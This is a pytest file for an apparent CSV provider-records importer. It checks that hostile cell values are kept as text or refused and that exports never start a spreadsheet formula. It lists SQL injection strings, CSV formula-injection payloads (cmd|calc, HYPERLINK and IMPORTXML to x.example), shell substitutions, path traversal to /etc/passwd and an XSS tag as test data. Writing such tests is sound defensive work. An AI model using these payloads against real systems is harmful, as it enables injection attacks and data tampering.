"""Files made to do harm: whatever stands in a cell stays a text and is never carried out."""

from __future__ import annotations

import csv

import pytest
from hilum_hookspecs import RecordError
from hilum_provider_records.exporting import export
from hilum_provider_records.importing import Import, Outcome
from hilum_provider_records.records import Records
from sqlalchemy import text

SQL = (
    "Robert'); DROP TABLE provider_records_provider;--",
    "' OR '1'='1",
    "x' UNION SELECT name FROM sqlite_master --",
    '"; DELETE FROM hilum_audit; --',
    "1; ATTACH DATABASE '/tmp/own.db' AS own",
    "%s %(name)s :name ? ?1 $1 {0} {name}",
    "\\'; DROP TABLE provider_records_inami; --",
)
FORMULAS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example/?q="&A1;"click")',
    '=IMPORTXML("http://x.example";"//a")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\uff1d1+1",
    "'=1+1",
)
SHAPES = (
    "../../../../etc/passwd",
    "$(touch /tmp/hilum-was-here)",
    "`id`",
    "<script>alert(1)</script>",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "a\tb",
    "Zo\N{COMBINING DIAERESIS}e",
    "\N{ZERO WIDTH SPACE}=1",
)
UNTOUCHED = (
    "provider_records_provider",
    "provider_records_profession",
    "provider_records_inami",
    "provider_records_retired",
)


def write(path, values, *, quoting=csv.QUOTE_ALL):
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";", quoting=quoting)
        writer.writerow(["last_name", "category"])
        writer.writerows([f"Example {number}", value] for number, value in enumerate(values))
    return path


def tables(context) -> list[str]:
    with context.storage.begin() as connection:
        names = connection.execute(text("select name from sqlite_master where type = 'table'"))
        return [name for (name,) in names if name.startswith("provider_records_")]


@pytest.mark.attack("H3")
@pytest.mark.parametrize("value", [*SQL, *FORMULAS, *SHAPES])
def test_a_hostile_cell_is_kept_as_it_is_written_or_refused(context, tmp_path, value):
    report = Import(context).run(write(tmp_path / "in.csv", [value]), dry_run=False)

    kept = Records(context).all()
    (row,) = report.rows
    assert sorted(tables(context)) == sorted(UNTOUCHED)
    if row.outcome.value == "added":
        # The apostrophe that makes a formula a text is not a part of it.
        assert [record.category for record in kept] in ([value], [value.removeprefix("'")])
    else:
        assert row.findings
        assert kept == ()


@pytest.mark.attack("H3")
@pytest.mark.parametrize("value", [*SQL, *SHAPES])
def test_a_hostile_word_to_look_for_finds_nobody(context, value):
    assert Records(context).find(value) == ()
    assert sorted(tables(context)) == sorted(UNTOUCHED)


@pytest.mark.attack("H3")
def test_no_cell_of_an_export_starts_a_formula(context, tmp_path):
    Import(context).run(write(tmp_path / "in.csv", [*SQL, *FORMULAS]), dry_run=False)

    export(Records(context).all(), tmp_path / "out.csv")

    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    starting = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
    assert any(cell.startswith("'=cmd") for cell in cells)
    assert [cell for cell in cells if cell.startswith(starting)] == []


@pytest.mark.attack("H3")
def test_what_was_exported_is_imported_unchanged(context, tmp_path):
    Import(context).run(write(tmp_path / "in.csv", [*SQL, *FORMULAS]), dry_run=False)
    before = Records(context).all()
    export(before, tmp_path / "out.csv")

    report = Import(context).run(tmp_path / "out.csv", dry_run=False)

    assert {row.outcome.value for row in report.rows} == {"unchanged"}
    assert Records(context).all() == before


def outcome_of(context, path) -> str:
    try:
        report = Import(context).run(path, dry_run=False)
    except RecordError as error:
        return error.code
    return "rows refused" if report.count(Outcome.REFUSED) else "taken"


@pytest.mark.attack("H3")
@pytest.mark.parametrize(
    "content",
    [
        b'last_name;category\n"unfinished;x\nNext;y\n',
        b"last_name;category\nA;" + b"x" * 200_000 + b"\n",
        b"last_name;category\nA;x\x00y\n",
        b"last_name;category\nA" + b";" * 5_000 + b"x\n",
        b"last_name;" * 500 + b"\nA\n",
        b"\xff\xfel\x00a\x00",
        b"last_name;=cmd|'/C calc'!A0\nA;x\n",
    ],
)
def test_a_hostile_file_is_refused_and_costs_at_most_its_rows(context, tmp_path, content):
    (tmp_path / "in.csv").write_bytes(content)

    outcome = outcome_of(context, tmp_path / "in.csv")

    assert outcome.startswith("record.") or outcome == "rows refused"
    assert sorted(tables(context)) == sorted(UNTOUCHED)
